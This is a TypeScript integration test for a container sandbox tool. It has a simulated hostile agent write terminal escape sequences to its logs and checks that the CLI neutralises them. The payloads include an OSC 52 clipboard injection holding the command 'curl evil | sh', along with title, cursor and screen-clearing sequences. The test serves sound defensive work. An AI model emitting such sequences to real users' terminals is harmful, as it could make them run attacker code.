import { execFile } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import type Docker from 'dockerode';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { down, up } from '../../core/compose/launcher.ts';
import { nodeHost, validateConfigText } from '../../core/config/load.ts';
import { resolveWorkspace } from '../../core/config/resolve.ts';
import { connectDocker } from '../../core/docker/connect.ts';
import { demuxToText } from '../../core/docker/streams.ts';
import { RUNTIMES, runCli, tempHome } from '../support/cli.ts';
import { TEST_BASE_IMAGE, describeWithDocker } from '../support/docker.ts';

const execFileAsync = promisify(execFile);

/**
 * What a hostile agent can do to the user's own programs through the output it writes: escape
 * sequences in its logs reach the user's terminal through `paddock logs`.
 */
describeWithDocker('a hostile agent against the user’s terminal and app', () => {
  const id = crypto.randomBytes(3).toString('hex');
  const ws = `hostile-app-${id}`;
  let docker: Docker;
  let sandbox: ReturnType<typeof tempHome>;
  let configFile: string;

  // base64 of "curl evil | sh\n": what OSC 52 would put on the user's clipboard.
  const clipboard = Buffer.from('curl evil | sh\n').toString('base64');
  const ESC = '\u001b';
  const attack = [
    `${ESC}[31mred warning${ESC}[0m`,
    `${ESC}]52;c;${clipboard}\u0007clipboard-after`,
    `${ESC}]0;owned title${ESC}\\title-after`,
    `${ESC}[2A${ESC}[10;10H${ESC}[2Jcursor-after`,
    `${ESC}P+q544e${ESC}\\dcs-after`,
    `\u009b2Jc1-after`,
    // Colour left on (here: concealed text) would carry over to the lines that follow, another service's too.
    `${ESC}[8mconcealed`,
  ];

  beforeAll(async () => {
    docker = (await connectDocker()).docker;
    sandbox = tempHome();
    const project = path.join(sandbox.home, 'project');
    fs.mkdirSync(project, { recursive: true });
    fs.chownSync(project, 1000, 1000);
    configFile = path.join(sandbox.home, 'paddock.toml');
    const text = `[base]\nfrom = "${TEST_BASE_IMAGE}"\nvariant = "minimal"\n[workspaces.${ws}]\npaths = ["${project}"]\nagent = "shell"\n`;
    fs.writeFileSync(configFile, text);
    const host = nodeHost(sandbox.home);
    const workspace = resolveWorkspace(validateConfigText(text, configFile, host).config, ws, host);
    await up(workspace, { docker, cacheDir: path.join(sandbox.home, 'cache'), dataDir: path.join(sandbox.home, 'data'), home: sandbox.home, env: process.env, exists: (file) => fs.existsSync(file) });
    // The agent, as itself (UID 1000), writes to its container's output: the log `paddock logs` shows.
    const exec = await docker.getContainer(`paddock-${ws}-agent-1`).exec({
      User: '1000:1000',
      Cmd: ['sh', '-c', 'id -u; printf "%s\\n" "$@" > /proc/1/fd/1', 'sh', ...attack],
      AttachStdout: true,
      AttachStderr: true,
    });
    const stream = await exec.start({});
    const chunks: Buffer[] = [];
    await new Promise<void>((resolve) => {
      stream.on('data', (chunk: Buffer) => chunks.push(chunk));
      stream.on('end', () => resolve());
    });
    const inspected = await exec.inspect();
    expect(demuxToText(Buffer.concat(chunks)), 'the agent could not write its output').toBe('1000\n');
    expect(inspected.ExitCode).toBe(0);
  }, 600_000);

  afterAll(async () => {
    await down(ws, { docker, dataDir: path.join(sandbox.home, 'data'), volumes: true }).catch(() => undefined);
    sandbox?.cleanup();
  });

  /** Every escape sequence in a text, as JSON-quoted strings so a failure message prints them inert. */
  const sequences = (text: string) => [...text.matchAll(/[\u001b\u0080-\u009f][^a-zA-Z\\\u0007]*[a-zA-Z\\\u0007]?/g)].map((match) => JSON.stringify(match[0]));

  it('prints colours but no other escape sequence to a terminal', async () => {
    // A real terminal (a pty from `script`), so the CLI takes its own terminal path.
    const [node, ...cli] = RUNTIMES.node;
    const command = [node, ...cli, '--config', configFile, 'logs', ws, '--service', 'agent'].map((word) => `'${word}'`).join(' ');
    const { stdout } = await execFileAsync('script', ['-qefc', command, '/dev/null'], { env: { PATH: process.env.PATH, HOME: sandbox.home, TERM: 'xterm-256color' }, timeout: 60_000 });
    for (const after of ['clipboard-after', 'title-after', 'cursor-after', 'dcs-after', 'c1-after']) expect(stdout).toContain(after);
    expect(stdout).toContain(`${ESC}[31mred warning${ESC}[0m`);
    expect(stdout).toContain(`${ESC}[8mconcealed${ESC}[0m`);
    expect(stdout).not.toContain(clipboard);
    const kept = sequences(stdout).filter((sequence) => !/^"\\u001b\[[0-9;]*m"$/.test(sequence));
    expect(kept).toEqual([]);
  });

  it('prints no escape sequence at all when the output is not a terminal', async () => {
    const result = await runCli('node', ['--config', configFile, 'logs', ws, '--service', 'agent'], { home: sandbox.home, env: { NO_COLOR: '' } });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain('red warning');
    expect(result.stdout).toContain('clipboard-after');
    expect(sequences(result.stdout)).toEqual([]);
    // Forcing colour into a pipe (`| less -R`) keeps the colours, and only them.
    const forced = await runCli('node', ['--config', configFile, 'logs', ws, '--service', 'agent'], { home: sandbox.home, env: { NO_COLOR: '', FORCE_COLOR: '1' } });
    expect(forced.stdout).toContain(`${ESC}[31mred warning${ESC}[0m`);
    expect(sequences(forced.stdout).filter((sequence) => !/^"\\u001b\[[0-9;]*m"$/.test(sequence))).toEqual([]);
  });

  it('keeps the exact output in --json, with every control character escaped', async () => {
    const result = await runCli('node', ['--config', configFile, 'logs', ws, '--service', 'agent', '--json'], { home: sandbox.home });
    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    const lines = result.stdout.trim().split('\n').map((line) => (JSON.parse(line) as { line: string }).line);
    for (const line of attack) expect(lines).toContain(line);
  });
});
